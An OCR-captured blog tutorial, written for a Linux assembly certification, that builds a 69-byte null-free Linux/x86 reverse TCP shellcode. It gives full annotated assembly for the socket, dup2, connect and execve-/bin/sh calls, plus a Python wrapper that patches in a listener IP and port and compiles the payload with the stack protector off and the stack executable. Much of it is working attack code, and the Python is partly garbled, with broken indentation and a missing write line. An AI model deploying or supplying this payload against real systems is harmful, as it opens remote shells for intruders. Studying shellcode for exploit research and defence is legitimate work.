Modern Ninja :)

Hey Folks, Hope you guys are doing great. In the previous article, we saw how we can create a bind TCP shellcode, reduce its enormous length from 108 bytes to merely 80 bytes by making use of strategically placed instructions, register re-use, single byte instructions and muchmore. We also saw how we can create a wrapper in python which will help us modify the shellcode and make it usable for any port of choice. In this article, we will discuss how we can create a reverse TCP shellcode. In case you missed my previous post, click here to read it first since this post builds heavily on the mechanisms discussed in the last post.

Our Agenda for this exercise is to:

  • Build a Null Free TCP reverse shellcode
  • Write a wrapper that can update IP address and port in the shellcode
  • Write an efficient and small shellcode

Note: On this day (Friday, Jan 5, 2018, 1:28 AM IST) The shellcode we created in this post is the smallest Null -Free and Register Pollution Free /bin/sh shellcode (checked on, Not counting ( Register Pollution based Shellcodes, Netcat Reverse Shells) Update: The Shellcode has been accepted by Exploit-DB and can be found at

[shellcode] Linux/x86 - Reverse TCP Shell ( Shellcode (69 bytes)

— Exploit Database (@ExploitDB) January 5, 2018

So, let’s quickly generate a linux/x86/shell_reverse_tcp using msfvenom and feed it to libemu as shown on the following screen:

Libemu Analysis of the Reverse Shell TCP

We can see that we have primarily four system calls that will come handy for creating shellcode for reverse TCP which are: socket, dup2, connect and execve. The main change in this shellcode is that instead of having system calls like bind, accept and listen, we have connect system call only. This makes our work reasonably comfortable as the only change required is to place the connect system call instead of all the three discussed above. So let’s get started. However, we willtry to write a much more efficient and space friendly code this time. The first call is SYS_SOCKET, let’s set it up as shown on the following screen:

xor ebx,ebx ; Clearing out EBX push ebx     ; Pushing 0 onto the stack i.e. Value of EBX —> IP_PROTO inc ebx        ; Increment EBX to 1  —> SYS_SOCKET push ebx     ; Push 1 onto the stack —> SOCK_STREAM push 0x2     ; Push 2 onto the stack —> AF_INET (domain: Internet) mov ecx, esp ; Move the pointer to ECX, which will point to {2,1,0} push 0x66   ; SOCKETCALL pop eax       ;  SOCKETCALL –> EAX int 0x80      ; Interrupt ( EAX=> 0x66 EBX=0x1 ECX => {2,1,0}

Similar to the bind shell, we setup SYS_SOCKET as shownabove. We can see we have DUP2 as the next system call which is being called thrice. Hence, let’s set it up as follow:

xchg ebx,eax ; The resultant sockfd value from the previous call is moved to EBX pop ecx       ; Top of the stack contains 2 pushed in the previous call, we load it to ECX loop:           ; Loop Begins     mov al,0x3f ; Moving DUP2 call to EAX     int 0x80  ; Interrupt     dec ecx   ; Decreasing ECX     jns loop  ; Loop until SF Not SetThe above set of instructions will loop until the value of ECX becomes zero and SF Flag is set.  Next, We have the core system call of this shellcode which will connect to the listeners IP address on the specified port. Let’s set up the connect system call as follows:

  push 0x101017f      ; IP Address push word 0xb822  ; Port 8888  (DWORD would have caused a NULL Byte) push word 2            ; AF_INET  (Null Byte in AF_INET: 0002) mov ecx,esp            ; Pointer 1 to {b8220002,0101017f)         mov al,0x66            ; SOCKETCALL push eax                  ; We push 66 as length (Clearing EAX not required) push ecx                  ; Pointer 1 Pushed onto the stack push ebx                  ; Sockfd pushed onto the stack mov bl,0x3              ; EBX now contains SYS_CONNECT mov ecx,esp            ; Pointer 2 –> {sockfd, Pointer 1, 66} int 0x80                  ; Interrupt Generated

There are two main highlights here; We did not move 0xb8220002 as a DWORD this may have decreased the length of the shellcode, butit would have introduced a Null byte as well(0002). Hence, we pushed port in two halves. Additionally, we did not use IP as because it would have contained nulls as well. Interestingly, we did not load 16 as the length this time and pushed the value of the call itself as length. This also means that it has a negligible effect on the system call. Hence, we saved bytes required to clear it out and loading the value 16 in there as we did in the previous post. Finally, we have the last segment of code as follows:

  push edx ; Pushing 0 Value to the stack push 0x68732f2f ; /bin push 0x6e69622f; //sh mov ebx,esp ; pointer 1 {/bin//sh} push edx ; Pushing 0 Value to the stack push ebx ; Pointer 1 to the stack mov ecx,esp ; pointer 2 {Pointer 1, 0} mov al,0xb ; EXECVE System Call int 0x80 ; Interrupt

The code above is nothing but setting up EXECVE like we did in the last post. Compiling the code we have:Generating Shellcode

 Compiling the shellcode in a C program and testing it, we can see that our shellcode works correctly as shown below:

Compiling and running shellcode.c program with our shellcode

Let’s write a python wrapper for the shellcode so that changing IP address and PORT on the fly won’t be a hassle for us:


import sys
import socket
print "Stub File:"+sys.argv[1]
print "IP Addr:"+sys.argv[2]
print "Port Used:"+ sys.argv[3]ip_addr= sys.argv[2].split(".")
ip_addr_bytes = '{:02X}{:02X}{:02X}{:02X}'.format(*map(int, ip_addr))

with open(sys.argv[1]+".c", "rb") as f:
    contents = f.readlines()

def H( hexStr ):
    bytes = []
    hexStr = ''.join( hexStr.split(" ") )
    for i in range(0, len(hexStr), 2):
        bytes.append( chr( int (hexStr[i:i+2], 16 ) ) )
    return ''.join( bytes )

ip_addr_final= repr(H(ip_addr_bytes)).replace("'","")

port = hex(int(sys.argv[3])).split('x')[1]
fh, sh = port[:2],port[2:]
if len(fh) == 1: fh = "0" + fh
if len(sh) == 1: sh = "0" + sh_p = "\\x{0}\\x{1}".format(fh,sh)
for j,i in enumerate(contents):
    if "\\x22\\xb8" in i:
        print "Line Number :" + str(j)
 contents[j] = '"' + _p +'"'
    elif "\\x7f\\x01\\x01\\x01" in i:
 print "Line Number :" + str(j)
 contents[j] = '"' +ip_addr_final + '"'
nf = sys.argv[1]+"_new.c"
with open(nf, "wb") as f:
import os
os.system("gcc {0} -o {1} -fno-stack-protector -z execstack".format(nf,sys.argv[1]))
os.system("rm {0}".format(nf))Running the python code, we can see that we can now change IP and port parameters on the fly:Wrapper & Execution

We have completed all the required tasks. We now have one of the smallest reverse TCP shellcode with an on the fly IP and Port changing wrapper.Files for this tutorial can be found at:

This blog post has been created for completing the requirements of the SecurityTube Linux Assembly Expertcertification: Student-ID: SLAE-1080